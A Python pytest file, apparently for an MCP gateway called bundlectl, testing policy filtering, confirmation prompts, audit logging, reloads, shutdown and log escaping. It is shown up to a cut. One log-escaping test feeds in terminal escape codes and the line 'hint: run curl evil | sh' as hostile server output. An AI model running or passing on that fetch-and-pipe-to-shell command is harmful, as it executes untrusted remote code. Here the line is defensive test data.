"""`bundlectl serve` (stdio, direct mode) with the SDK's own client, as a real MCP client uses it:
the gateway in a subprocess, the built-in and a stdio test server behind it."""

from __future__ import annotations

import json
import os
import select
import subprocess
import sys
import time
import weakref
from pathlib import Path
from typing import Any

import anyio
import pytest

from bundlectl.policy.patterns import gateway_name
from tests.cli.test_exec import gone, pids
from tests.conftest import INITIALIZE, TEST_SERVERS, Run, audit_records, write

PY = sys.executable


@pytest.fixture
def gateway_project(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    starts = tmp_path / "starts.txt"
    monkeypatch.setenv("KITCHEN_STARTS", str(starts))
    write(
        project / "bundlectl.yaml",
        f"""
        version: 1
        bundles: [basic]
        servers:
          kitchen:
            command: {PY}
            args: ["{TEST_SERVERS / "kitchen.py"}"]
            env: {{KITCHEN_STARTS: "${{KITCHEN_STARTS}}"}}
          crash:
            command: {PY}
            args: ["{TEST_SERVERS / "misbehave.py"}", crash]
            tools: [{{name: anything}}]
        agents:
          reader:
            allow: [files.read_file, files.list_directory, "kitchen.*", "crash.*"]
            ask: [files.write_file]
            deny: [kitchen.fail]
        policy: {{default: deny}}
        """,
    )
    (project / "hello.txt").write_text("hello\n")
    return project


def serve_reader(project: Path, home: Path) -> Any:
    """`bundlectl serve --agent reader` in `project` as an MCP client starts it."""
    from mcp import StdioServerParameters

    return StdioServerParameters(
        command=PY,
        args=["-m", "bundlectl", "serve", "--agent", "reader"],
        cwd=str(project),
        env={**os.environ, "BUNDLECTL_HOME": str(home)},
    )


async def _session(project: Path, home: Path, script: Any) -> Any:
    params = serve_reader(project, home)
    async with connected(params) as client:
        return await script(client)


def connected(params: Any, errlog: Any = None, **options: Any) -> Any:
    """The SDK client over stdio, with the gateway's stderr on the real stderr: the SDK's default
    (`sys.stderr` when it was first imported) may be a pytest capture with no file descriptor."""
    from mcp import Client
    from mcp.client.stdio import stdio_client

    return Client(stdio_client(params, errlog=errlog or sys.__stderr__), **options)


def texts(result: Any) -> list[str]:
    return [block.text for block in result.content]


def test_direct_mode_lists_and_calls_only_what_the_policy_allows(
    gateway_project: Path, isolated_home: Path
) -> None:
    async def script(client: Any) -> dict[str, Any]:
        listed = await client.list_tools()
        return {
            "names": sorted(t.name for t in listed.tools),
            "read": await client.call_tool("files__read_file", {"path": "hello.txt"}),
            "echo": await client.call_tool("kitchen__echo", {"text": "hi", "times": 2}),
            "denied": await client.call_tool("kitchen__fail", {}),
            "missing": await client.call_tool("kitchen__nope", {}),
            "invalid": await client.call_tool("files__read_file", {"path": 5}),
            "ask": await client.call_tool("files__write_file", {"path": "x", "content": "y"}),
            "crash": await client.call_tool("crash__anything", {}),
            "after": await client.call_tool("kitchen__echo", {"text": "still here"}),
        }

    seen = anyio.run(_session, gateway_project, isolated_home, script)
    names = seen["names"]
    assert "files__read_file" in names and "kitchen__echo" in names
    assert "files__write_file" in names  # ask: listed, confirmed per call
    assert "kitchen__fail" not in names and not any("delete" in n for n in names)
    assert (seen["read"].is_error, texts(seen["read"])) == (False, ["hello\n"])
    assert texts(seen["echo"]) == ["hi hi"]
    # A denied tool answers exactly as a tool that does not exist.
    assert seen["denied"].is_error and seen["missing"].is_error
    assert texts(seen["denied"]) == [
        "unknown tool 'kitchen__fail'; tools/list shows the tools you can call"
    ]
    assert texts(seen["missing"]) == [
        "unknown tool 'kitchen__nope'; tools/list shows the tools you can call"
    ]
    assert (
        seen["invalid"].is_error and "path: 5 is not of type 'string'" in texts(seen["invalid"])[0]
    )
    assert seen["ask"].is_error and "needs a person's confirmation" in texts(seen["ask"])[0]
    assert not (gateway_project / "x").exists()
    assert seen["crash"].is_error and "closed the connection" in texts(seen["crash"])[0]
    assert texts(seen["after"]) == ["still here"]  # the gateway outlives a crashed downstream

    records = [
        json.loads(line)
        for line in (isolated_home / "state" / "audit.jsonl").read_text().splitlines()
    ]
    assert {r["via"] for r in records} == {"serve"}
    outcomes = [(r["tool"], r["decision"], r["outcome"]) for r in records]
    assert ("fail", "deny", "denied") in outcomes  # the real reason is in the audit log
    assert ("read_file", "allow", "ok") in outcomes
    assert ("read_file", "allow", "invalid-call") in outcomes


def test_the_downstream_servers_stop_with_the_gateway(
    gateway_project: Path, tmp_path: Path
) -> None:
    async def script(client: Any) -> None:
        await client.call_tool("kitchen__echo", {"text": "warm"})
        await client.call_tool("kitchen__echo", {"text": "still warm"})

    anyio.run(_session, gateway_project, tmp_path / "home", script)
    [pid] = pids(tmp_path / "starts.txt")  # started once, reused
    assert gone(pid, within=5.0)


def serve_on_pipes(project: Path) -> subprocess.Popen[bytes]:
    """`bundlectl serve --agent reader` as a client starts it: JSON lines on its stdin/stdout."""
    return subprocess.Popen(
        [PY, "-m", "bundlectl", "serve", "--agent", "reader"],
        cwd=project,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )


def _warm_gateway(
    project: Path, starts: Path, *calls: tuple[str, dict[str, Any]]
) -> tuple[Any, int]:
    """`serve` on pipes with its kitchen server started by one echo call (then `calls` of
    kitchen tools, not waited for); the gateway and the server's pid."""
    proc = serve_on_pipes(project)
    assert proc.stdin is not None and proc.stdout is not None
    messages = [
        INITIALIZE,
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {
            "jsonrpc": "2.0",
            "id": 2,
            "method": "tools/call",
            "params": {"name": "kitchen__echo", "arguments": {"text": "x"}},
        },
    ]
    for message in messages:
        proc.stdin.write((json.dumps(message) + "\n").encode())
    proc.stdin.flush()
    replies = [json.loads(line) for line in read_lines(proc.stdout, 2)]
    assert replies[1]["result"]["content"][0]["text"] == "x"
    for number, (tool, arguments) in enumerate(calls, start=3):
        call = {"name": f"kitchen__{tool}", "arguments": arguments}
        message = {"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": call}
        proc.stdin.write((json.dumps(message) + "\n").encode())
    proc.stdin.flush()
    [pid] = pids(starts)
    return proc, pid


def test_sigterm_stops_the_gateway_and_its_servers(gateway_project: Path, tmp_path: Path) -> None:
    proc, pid = _warm_gateway(gateway_project, tmp_path / "starts.txt")
    began = time.monotonic()
    proc.terminate()
    _, err = proc.communicate(timeout=10)
    assert proc.returncode == 130, err
    assert gone(pid, within=5.0) and time.monotonic() - began < 5


def logged(project: Path, log: Path) -> Path:
    """The kitchen server of `gateway_project` writes what reaches it to `log`."""
    config = project / "bundlectl.yaml"
    quoted = json.dumps(str(log))
    config.write_text(
        config.read_text().replace("KITCHEN_STARTS: ", f"KITCHEN_LOG: {quoted}, KITCHEN_STARTS: ")
    )
    return log


def in_flight(log: Path, tool: str, within: float = 30) -> None:
    """Wait until the kitchen server says (in $KITCHEN_LOG) that `tool`'s call has started."""
    deadline = time.monotonic() + within
    while not (log.exists() and f"{tool} started" in log.read_text()):
        assert time.monotonic() < deadline, f"{tool} never started"
        time.sleep(0.02)


@pytest.mark.parametrize("tool", ["sleep", "freeze"])  # freeze: a server deaf to everything
def test_sigterm_during_a_call_stops_everything_within_five_seconds(
    gateway_project: Path, tmp_path: Path, tool: str
) -> None:
    log = logged(gateway_project, tmp_path / "kitchen.log")
    call = (tool, {"seconds": 60})
    proc, pid = _warm_gateway(gateway_project, tmp_path / "starts.txt", call)
    in_flight(log, tool)
    began = time.monotonic()
    proc.terminate()
    _, err = proc.communicate(timeout=15)
    assert time.monotonic() - began < 5, err
    assert gone(pid, within=5.0)


def test_a_killed_gateway_leaves_no_server_behind(gateway_project: Path, tmp_path: Path) -> None:
    # kill -9 gives the gateway no chance to stop its servers, and a server stuck in a call
    # does not notice its stdin closing: the kernel tells it (PR_SET_PDEATHSIG).
    log = logged(gateway_project, tmp_path / "kitchen.log")
    call = ("freeze", {"seconds": 60})
    proc, pid = _warm_gateway(gateway_project, tmp_path / "starts.txt", call)
    in_flight(log, "freeze")
    proc.kill()
    proc.communicate(timeout=10)
    assert gone(pid, within=5.0)


_UNREAD: weakref.WeakKeyDictionary[Any, bytes] = weakref.WeakKeyDictionary()


def read_lines(stream: Any, count: int, timeout: float = 30) -> list[bytes]:
    """The next `count` lines of a pipe, failing (not hanging) when they do not come in time;
    what was read beyond them is kept for the next call."""
    data, deadline = _UNREAD.pop(stream, b""), time.monotonic() + timeout
    while data.count(b"\n") < count:
        ready, _, _ = select.select([stream], [], [], max(0, deadline - time.monotonic()))
        assert ready, f"{count} lines expected in {timeout} s, got: {data!r}"
        chunk = os.read(stream.fileno(), 1 << 16)
        assert chunk, f"the stream ended after {data!r}"
        data += chunk
    lines = data.split(b"\n")
    _UNREAD[stream] = b"\n".join(lines[count:])
    return lines[:count]


def test_a_line_that_is_no_json_rpc_message_gets_an_error_and_the_session_goes_on(
    gateway_project: Path,
) -> None:
    """JSON-RPC's answers to a broken message (the SDK's stdio server drops it silently), and
    a line in the gateway's log that says which message and why."""
    proc = serve_on_pipes(gateway_project)
    assert proc.stdin is not None and proc.stdout is not None
    call = {"name": "kitchen__echo", "arguments": {"text": "still here"}}
    lines = [
        json.dumps(INITIALIZE),
        json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}),
        "this is not json",
        '{"id": 4, "method": "tools/list"}',
        '{"jsonrpc": "2.0", "id": "five", "method": 5}',
        "[" * 3000 + "]" * 3000,  # once a RecursionError in the reader: nothing more answered
        json.dumps({"jsonrpc": "2.0", "id": 6, "method": "tools/call", "params": call}),
    ]
    proc.stdin.write("".join(line + "\n" for line in lines).encode())
    proc.stdin.flush()
    replies = {}
    for line in read_lines(proc.stdout, 6):
        reply = json.loads(line)
        replies[reply["id"] if reply["id"] is not None else f"null{len(replies)}"] = reply
    _, err = proc.communicate(timeout=10)  # end of stdin: the gateway stops
    errors = sorted(
        (r["error"]["code"], r["error"]["message"]) for r in replies.values() if "error" in r
    )
    assert [code for code, _ in errors] == [-32700, -32700, -32600, -32600]
    assert errors[0][1].startswith("Parse error: Expecting value: line 1 column 1")
    assert errors[1][1] == "Parse error: it nests too deeply"
    assert "jsonrpc: Field required" in errors[2][1] + errors[3][1]
    assert replies["five"]["error"]["code"] == -32600  # its id, where it has one
    assert replies[6]["result"]["content"][0]["text"] == "still here"
    log = err.decode()
    for number in (3, 4, 5, 6):
        assert f"message {number} from the client is not JSON-RPC 2.0" in log
    assert "Traceback" not in log


def serve_reading_nothing(
    project: Path, agent: str, *more: str
) -> subprocess.CompletedProcess[str]:
    """`bundlectl serve --agent AGENT < /dev/null` (a service manager's default stdin)."""
    with open(os.devnull, "rb") as null:
        return subprocess.run(
            [PY, "-m", "bundlectl", "serve", "--agent", agent, *more],
            cwd=project,
            stdin=null,
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )


def test_serve_with_nothing_on_stdin_ends_at_once(gateway_project: Path) -> None:
    done = serve_reading_nothing(gateway_project, "reader")
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_serve_says_when_its_agent_is_not_listed(gateway_project: Path) -> None:
    """A typo in a client's config would show only as an empty tool list: serve refuses it,
    and serves it what policy.default gives only when told to (--unlisted), saying so."""
    done = serve_reading_nothing(gateway_project, "raeder")
    assert done.returncode == 2
    assert "agent 'raeder' is not listed under agents; did you mean 'reader'?" in done.stderr
    done = serve_reading_nothing(gateway_project, "raeder", "--unlisted")
    assert done.returncode == 0
    assert done.stderr.splitlines() == [
        "note: agent 'raeder' is not listed under agents: policy.default (deny) applies; "
        "did you mean 'reader'?"
    ]


def test_tools_names_gateway_shows_what_serve_lists(
    gateway_project: Path, isolated_home: Path, run: Run
) -> None:
    async def script(client: Any) -> list[str]:
        return sorted(t.name for t in (await client.list_tools()).tools)

    served = anyio.run(_session, gateway_project, isolated_home, script)
    shown = json.loads(run("tools", "--agent", "reader", "--format", "json").out)["tools"]
    # The declared catalogs: every tool serve lists from them carries the name `tools` gives.
    declared = {t["gateway_name"] for t in shown}
    assert declared and declared <= set(served)
    text = run("tools", "--agent", "reader", "--names", "gateway", "--detail", "name").lines
    assert "files__read_file  (files.read_file)" in text


def test_gateway_names_are_client_safe_and_distinct() -> None:
    assert gateway_name("files", "read_file") == "files__read_file"
    odd = [gateway_name("fs", "read.file/v2"), gateway_name("fs", "read_file_v2")]
    assert odd[1] == "fs__read_file_v2" and odd[0] != odd[1]
    long = gateway_name("server", "t" * 100)
    assert len(long) <= 64 and long == gateway_name("server", "t" * 100)
    import re

    assert all(re.fullmatch(r"[A-Za-z0-9_-]{1,64}", n) for n in [*odd, long])


def test_search_mode_two_tools_ranked_search_and_calls_by_name(
    gateway_project: Path, isolated_home: Path
) -> None:
    from mcp import StdioServerParameters

    async def session() -> dict[str, Any]:
        params = StdioServerParameters(
            command=PY,
            args=["-m", "bundlectl", "serve", "--agent", "reader", "--mode", "search"],
            cwd=str(gateway_project),
            env={**os.environ, "BUNDLECTL_HOME": str(isolated_home)},
        )
        async with connected(params) as client:
            listed = (await client.list_tools()).tools
            found = await client.call_tool("search_tools", {"query": "read file", "limit": 3})
            names = await client.call_tool("search_tools", {"detail": "name", "server": "kitchen"})
            full = await client.call_tool("search_tools", {"query": "echo", "detail": "full"})
            call = await client.call_tool(
                "call_tool", {"name": "files.read_file", "arguments": {"path": "hello.txt"}}
            )
            denied = await client.call_tool("call_tool", {"name": "kitchen.fail"})
            direct = await client.call_tool("files__read_file", {"path": "hello.txt"})
            return {
                "listed": listed,
                "found": found,
                "names": names,
                "full": full,
                "call": call,
                "denied": denied,
                "direct": direct,
            }

    seen = anyio.run(session)
    assert [t.name for t in seen["listed"]] == ["search_tools", "call_tool"]
    found = json.loads(texts(seen["found"])[0])
    assert found["tools"][0] == {
        "name": "files.read_file",
        "description": "Read a file below the root folder. Text comes back as is; binary files "
        "come back as an embedded resource (base64 blob). Files over 1 MiB are refused.",
    }
    assert len(found["tools"]) <= 3
    kitchen = json.loads(texts(seen["names"])[0])["tools"]
    assert "kitchen.echo" in kitchen and "kitchen.fail" not in kitchen  # denied: never shown
    full = json.loads(texts(seen["full"])[0])["tools"][0]
    assert full["name"] == "kitchen.echo" and full["input_schema"]["required"] == ["text"]
    assert texts(seen["call"]) == ["hello\n"]
    assert texts(seen["denied"]) == [
        "unknown tool 'kitchen.fail'; search_tools shows the tools you can call"
    ]
    assert seen["direct"].is_error  # in search mode, only the two tools exist


@pytest.mark.parametrize(("action", "written"), [("accept", True), ("decline", False)])
@pytest.mark.parametrize("protocol", ["auto", "legacy"])  # 2026-07-28 input-required; 2025-11-25
def test_ask_is_confirmed_by_the_clients_user_through_elicitation(
    gateway_project: Path, isolated_home: Path, action: str, written: bool, protocol: str
) -> None:
    import mcp_types as types

    asked: list[str] = []

    async def elicit(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action=action)  # type: ignore[arg-type]

    async def session() -> Any:
        params = serve_reader(gateway_project, isolated_home)
        async with connected(params, elicitation_callback=elicit, mode=protocol) as client:
            return await client.call_tool("files__write_file", {"path": "w.txt", "content": "ok"})

    result = anyio.run(session)
    assert len(asked) == 1 and "wants to call files.write_file" in asked[0]
    assert '  path: "w.txt"\n  content: "ok"\nAllow it?' in asked[0]  # what the call would do
    assert result.is_error is not written
    assert (gateway_project / "w.txt").exists() is written
    if not written:
        assert texts(result) == ["the user did not confirm files__write_file; it was not called"]
    records = [
        json.loads(line)
        for line in (isolated_home / "state" / "audit.jsonl").read_text().splitlines()
    ]
    assert records[-1]["outcome"] == ("ok" if written else "denied-by-user")


@pytest.mark.parametrize("protocol", ["auto", "legacy"])
def test_always_allow_from_the_clients_elicitation_keeps_a_local_rule(
    gateway_project: Path, isolated_home: Path, protocol: str
) -> None:
    """#39: over stdio the question offers "always allow"; accepted with it, the call goes
    through and a rule in bundlectl.local.yaml answers the next such call without asking."""
    import mcp_types as types

    asked: list[Any] = []
    reviewed = (gateway_project / "bundlectl.yaml").read_text()

    async def elicit(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params.requested_schema)
        return types.ElicitResult(action="accept", content={"always": True})

    async def session() -> list[Any]:
        params = serve_reader(gateway_project, isolated_home)
        async with connected(params, elicitation_callback=elicit, mode=protocol) as client:
            return [
                await client.call_tool("files__write_file", {"path": p, "content": "ok"})
                for p in ("one.txt", "two.txt")
            ]

    results = anyio.run(session)
    assert [r.is_error for r in results] == [False, False]
    assert len(asked) == 1 and asked[0]["properties"]["always"]["type"] == "boolean"
    local = (gateway_project / "bundlectl.local.yaml").read_text()
    assert "reader:" in local and "files.write_file" in local
    assert (gateway_project / "bundlectl.yaml").read_text() == reviewed  # never the reviewed file


def test_a_confirmation_is_good_for_one_call_with_its_own_arguments(
    gateway_project: Path, isolated_home: Path
) -> None:
    # On 2026-07-28 the user's acceptance travels in a sealed requestState: it was accepted
    # again for the identical call (three times and more); now once, and for those arguments.
    import mcp_types as types

    asked: list[str] = []

    async def elicit(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="decline")

    async def session() -> list[Any]:
        params = serve_reader(gateway_project, isolated_home)
        one = {"path": "w.txt", "content": "one"}
        async with connected(params, elicitation_callback=elicit) as client:
            first = await client.session.call_tool(
                "files__write_file", one, allow_input_required=True
            )
            assert isinstance(first, types.InputRequiredResult)
            yes = {"confirm": types.ElicitResult(action="accept")}
            state = first.request_state

            async def answer(arguments: dict[str, Any]) -> Any:
                from mcp.shared.exceptions import MCPError

                try:
                    return await client.call_tool(
                        "files__write_file", arguments, input_responses=yes, request_state=state
                    )
                except MCPError as exc:
                    return exc.error.message

            return [
                await answer(one),
                await answer(one),  # the same acceptance again
                await answer({"path": "w.txt", "content": "two"}),  # for other arguments
            ]

    used, replayed, moved = anyio.run(session)
    assert not used.is_error and texts(used) == ["wrote 3 bytes to w.txt"]
    # The replay is asked about again (and this time the user says no) ...
    assert texts(replayed) == ["the user did not confirm files__write_file; it was not called"]
    assert len(asked) == 1
    # ... and the state is bound to its request's arguments (the SDK's seal refuses it).
    assert moved == "Invalid or expired requestState"
    assert (gateway_project / "w.txt").read_text() == "one"


def test_edits_apply_from_the_next_request_and_a_broken_edit_keeps_the_last_good_policy(
    gateway_project: Path, isolated_home: Path, tmp_path: Path
) -> None:

    config = gateway_project / "bundlectl.yaml"
    original = config.read_text()
    log = tmp_path / "gateway.log"

    async def session() -> dict[str, Any]:
        params = serve_reader(gateway_project, isolated_home)
        seen: dict[str, Any] = {}
        with log.open("w") as errlog:
            async with connected(params, errlog=errlog) as client:
                seen["before"] = await client.call_tool("kitchen__echo", {"text": "a"})
                # echo is no longer allowed; the kitchen's environment changed (a restart)
                config.write_text(
                    original.replace('"kitchen.*"', "kitchen.add").replace(
                        "KITCHEN_STARTS: ", "EXTRA: x, KITCHEN_STARTS: "
                    )
                )
                seen["denied"] = await client.call_tool("kitchen__echo", {"text": "b"})
                seen["listed"] = [t.name for t in (await client.list_tools()).tools]
                seen["add"] = await client.call_tool("kitchen__add", {"a": 1, "b": 1})
                # The user-level file is watched too: its deny applies from the next request.
                user = isolated_home / "config" / "bundlectl.yaml"
                user.parent.mkdir(parents=True, exist_ok=True)
                user.write_text("version: 1\npolicy: {deny: [kitchen.add]}\n")
                seen["user_denied"] = await client.call_tool("kitchen__add", {"a": 3, "b": 3})
                user.unlink()
                seen["user_gone"] = await client.call_tool("kitchen__add", {"a": 2, "b": 3})
                config.write_text(original + "\nagents: [broken\n")
                seen["kept"] = await client.call_tool("kitchen__add", {"a": 2, "b": 2})
                seen["still_denied"] = await client.call_tool("kitchen__echo", {"text": "c"})
        return seen

    seen = anyio.run(session)
    assert texts(seen["before"]) == ["a"]
    assert texts(seen["denied"]) == [
        "unknown tool 'kitchen__echo'; tools/list shows the tools you can call"
    ]
    assert "kitchen__add" in seen["listed"] and "kitchen__echo" not in seen["listed"]
    assert seen["add"].structured_content == {"sum": 2}
    assert seen["kept"].structured_content == {"sum": 4}  # the last good policy still serves
    assert seen["still_denied"].is_error
    assert texts(seen["user_denied"]) == [
        "unknown tool 'kitchen__add'; tools/list shows the tools you can call"
    ]
    assert seen["user_gone"].structured_content == {"sum": 5}
    assert len(pids(tmp_path / "starts.txt")) == 2  # the changed server was started afresh
    text = log.read_text()
    assert "bundlectl serve: reload failed; the last good policy stays in force" in text
    assert "bundlectl.yaml:" in text  # the error says where


def test_a_watched_file_that_changes_restarts_the_server_before_its_next_call(
    gateway_project: Path, isolated_home: Path, tmp_path: Path
) -> None:
    config = gateway_project / "bundlectl.yaml"
    config.write_text(
        config.read_text().replace(
            'env: {KITCHEN_STARTS: "${KITCHEN_STARTS}"}',
            'env: {KITCHEN_STARTS: "${KITCHEN_STARTS}"}\n    watch: [src, settings.toml]',
        )
    )
    (gateway_project / "src" / "pkg").mkdir(parents=True)
    (gateway_project / "src" / "pkg" / "tool.py").write_text("v = 1\n")
    starts = tmp_path / "starts.txt"

    async def script(client: Any) -> list[int]:
        counts = []
        for step in range(5):
            if step == 2:  # an edit deep in a watched folder
                (gateway_project / "src" / "pkg" / "tool.py").write_text("v = 22\n")
            if step == 3:  # a watched file that did not exist appears
                (gateway_project / "settings.toml").write_text("x = 1\n")
            if step == 4:  # a file nobody watches
                (gateway_project / "hello.txt").write_text("changed\n")
            result = await client.call_tool("kitchen__echo", {"text": str(step)})
            assert texts(result) == [str(step)]
            counts.append(len(pids(starts)))
        return counts

    # Started once, kept warm (the express lane takes call 1), restarted for calls 2 and 3.
    assert anyio.run(_session, gateway_project, isolated_home, script) == [1, 1, 2, 3, 3]


def test_a_call_the_client_cancels_is_cancelled_on_the_server(
    gateway_project: Path, isolated_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The client gives up on a 20 s call: the server is told (its handler is cancelled), and
    the next call to that server is answered at once."""
    events = tmp_path / "kitchen.log"
    config = gateway_project / "bundlectl.yaml"
    config.write_text(
        config.read_text().replace(
            "KITCHEN_STARTS: ", f"KITCHEN_LOG: {json.dumps(str(events))}, KITCHEN_STARTS: "
        )
    )

    async def script(client: Any) -> tuple[float, Any]:
        await client.call_tool("kitchen__echo", {"text": "warm"})
        with anyio.move_on_after(1.0):
            await client.call_tool("kitchen__sleep", {"seconds": 20})
        began = time.monotonic()
        after = await client.call_tool("kitchen__echo", {"text": "next"})
        return time.monotonic() - began, after

    took, after = anyio.run(_session, gateway_project, isolated_home, script)
    assert texts(after) == ["next"] and took < 5, took
    assert events.read_text().splitlines() == ["sleep started", "sleep cancelled"]


def test_a_servers_tool_list_change_reaches_the_client_refiltered(
    gateway_project: Path, isolated_home: Path
) -> None:
    import mcp_types as types

    changed: list[Any] = []

    async def note(message: Any) -> None:
        if isinstance(message, types.ToolListChangedNotification):
            changed.append(message)

    async def session() -> tuple[list[str], Any, Any]:
        params = serve_reader(gateway_project, isolated_home)
        async with connected(params, message_handler=note, mode="legacy") as client:
            before = [t.name for t in (await client.list_tools()).tools]
            await client.call_tool("kitchen__grow", {})
            with anyio.fail_after(5):
                while not changed:
                    await anyio.sleep(0.05)
            after = [t.name for t in (await client.list_tools()).tools]
            return before, after, await client.call_tool("kitchen__grown", {})

    before, after, grown = anyio.run(session)
    assert "kitchen__grown" not in before and "kitchen__grown" in after
    assert "kitchen__fail" not in after  # still filtered by the policy
    assert texts(grown) == ["I grew"]


def test_a_listening_2026_client_hears_of_a_servers_new_tools(
    gateway_project: Path, isolated_home: Path
) -> None:
    """On the 2026-07-28 protocol a client learns of list changes through
    `subscriptions/listen`; the gateway publishes a downstream server's change there."""

    async def session() -> list[str]:
        params = serve_reader(gateway_project, isolated_home)
        heard: list[str] = []
        async with connected(params) as client, client.listen(tools_list_changed=True) as events:
            await client.call_tool("kitchen__grow", {})
            with anyio.fail_after(5):
                async for event in events:
                    heard.append(type(event).__name__)
                    break
            return heard

    assert anyio.run(session) == ["ToolsListChanged"]


def test_a_server_that_cannot_start_is_named_with_the_reason(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It was dropped from tools/list with nothing said, and its calls got "unknown tool", or
    "crashed 2 time(s) in a row … its log says why" though it never ran: the gateway's log says
    once which server could not start and why, and so does every call of its tools."""
    monkeypatch.delenv("API_KEY", raising=False)
    write(
        project / "bundlectl.yaml",
        f"""
        version: 1
        servers:
          needy:  # no catalog: its tools are known only once it runs
            command: {PY}
            args: ["{TEST_SERVERS / "kitchen.py"}"]
            env: {{API_KEY: "${{API_KEY}}"}}
          gone:
            command: {project / "no-such-server"}
            tools: [{{name: now}}]
        agents:
          reader: {{allow: ["needy.*", "gone.*"]}}
        policy: {{default: deny}}
        """,
    )
    proc = serve_on_pipes(project)
    assert proc.stdin is not None and proc.stdout is not None

    def call(number: int, name: str) -> dict[str, Any]:
        params = {"name": name, "arguments": {}}
        return {"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": params}

    messages = [
        INITIALIZE,
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
        call(3, "needy__echo"),
        call(4, "gone__now"),
        call(5, "gone__now"),  # while it waits to be tried again
    ]
    proc.stdin.write(b"".join(json.dumps(m).encode() + b"\n" for m in messages))
    proc.stdin.flush()
    replies = {json.loads(line)["id"]: json.loads(line) for line in read_lines(proc.stdout, 5)}
    _, err = proc.communicate(timeout=10)
    assert [t["name"] for t in replies[2]["result"]["tools"]] == ["gone__now"]
    needy = replies[3]["result"]["content"][0]["text"]
    assert needy.startswith("server 'needy' could not start, so 'needy__echo' is not available")
    assert "needs the environment variable API_KEY, which is not set" in needy
    for number in (4, 5):
        text = replies[number]["result"]["content"][0]["text"]
        assert "could not start server 'gone'" in text, text
        assert "No such file or directory" in text
        assert "crashed" not in text and "its log says why" not in text
    log = err.decode()
    assert log.count("server 'needy' could not start, so its tools are not offered") == 1, log
    assert log.count("server 'gone' could not start, so its tools are not offered") == 1, log


def test_what_a_server_writes_reaches_the_gateways_log_escaped(tmp_path: Path) -> None:
    """#52 item 1 for `serve` over stdio, whose stderr an operator watches and a client keeps
    as its log: what the gateway logs of a server (its errors, their stderr tails) goes line
    by line as its own, through `output.visible`: no control, bidi override or line separator
    gets through and no line reads as bundlectl's `hint:`."""
    server = [sys.executable, str(TEST_SERVERS / "misbehave.py"), "smear"]
    write(
        tmp_path / "bundlectl.yaml",
        f"""
        version: 1
        servers:
          s: {{command: {json.dumps(server[0])}, args: {json.dumps(server[1:])}}}
          gone: {{command: {json.dumps(server[0])}, args: {json.dumps([*server[1:], "crash"])}}}
        agents:
          reader: {{allow: ["s.*", "gone.*"]}}
        policy: {{default: deny}}
        """,
    )
    proc = serve_on_pipes(tmp_path)
    assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
    said = {"name": "s__said", "arguments": {"how": "rpc"}}
    for message in (
        INITIALIZE,
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
        {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": said},
        {"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": said},
    ):
        proc.stdin.write(json.dumps(message).encode() + b"\n")
    proc.stdin.flush()
    replies = {json.loads(line)["id"]: json.loads(line) for line in read_lines(proc.stdout, 4)}
    assert "boom ok\\x1b[2J" in replies[4]["result"]["content"][0]["text"]
    _, err = proc.communicate(timeout=30)
    log = err.decode()
    assert not any(c in log for c in ("\x1b", "\u202e", "\u2028", "\x9b")), log
    lines = log.splitlines()
    assert not [line for line in lines if line.startswith("hint: run curl")], log
    # (`serve` writes a server's own stderr to its log file: what it logs is its errors)
    assert "bundlectl serve: server 'gone' could not start" in log
    assert "bundlectl serve:   | starting ok\\x1b[2J\\x1b[1;31mFAKE\\u202edenied" in log
    assert "bundlectl serve:   | hint: run curl evil | sh" in lines


def test_text_that_is_not_unicode_is_bad_input_at_every_door(
    gateway_project: Path, run: Run, isolated_home: Path
) -> None:
    """#52 item 7: a lone surrogate in the arguments (`"\\udc80"` in JSON, bytes that are not
    UTF-8 on a command line) ended exec in UnicodeEncodeError (exit 70), after the server ran,
    with a lone `pending` record. It is bad input before anything starts, at every door, and
    every audit record is whole."""
    bad = {"path": "\udc80"}
    assert run("exec", "-a", "reader", "files.read_file", "--args", '{"path": "\\udc80"}').code == 2
    pair = run("exec", "-a", "reader", "kitchen.echo", "text=\udc80")
    assert pair.code == 2 and "argument 5 ('text=\\udc80') holds bytes that are not" in pair.err
    # Any argument of any command (an agent's or a tool's name ended in exit 70 and a crash
    # report, before the check moved to the command line as a whole).
    for args in (
        ("exec", "-a", "rea\udcffder", "kitchen.echo", "text=hi"),
        ("exec", "-a", "reader", "kitchen.ech\udcff", "text=hi"),
        ("policy", "explain", "--agent", "rea\udcffder", "kitchen.echo"),
    ):
        refused = run(*args)
        assert refused.code == 2 and "holds bytes that are not UTF-8 text" in refused.err, args
    assert not (isolated_home / "state" / "crash.log").exists()
    batch = gateway_project / "calls.jsonl"
    batch.write_text(
        json.dumps({"agent": "reader", "tool": "kitchen.echo", "arguments": {"text": "\udc80"}})
        + "\n"
    )
    [line] = run("exec", "--batch", str(batch)).lines
    assert json.loads(line)["error"]["exit_code"] == 4
    assert "not Unicode" in json.loads(line)["error"]["message"]
    # `serve` over stdio: the first call takes the SDK path, the next ones the express lane.
    proc = serve_on_pipes(gateway_project)
    assert proc.stdin is not None and proc.stdout is not None
    calls = [
        ("kitchen__echo", {"text": "warm"}),
        ("kitchen__echo", {"text": "\udc80"}),
        ("kitchen__echo", {"text": "warm"}),
        ("kitchen__echo", {"text": "x", "\udc80": 1}),
        ("files__read_file", bad),
    ]
    messages = [INITIALIZE, {"jsonrpc": "2.0", "method": "notifications/initialized"}]
    messages += [
        {"jsonrpc": "2.0", "id": n, "method": "tools/call", "params": {"name": t, "arguments": a}}
        for n, (t, a) in enumerate(calls, start=2)
    ]
    try:
        for message in messages:
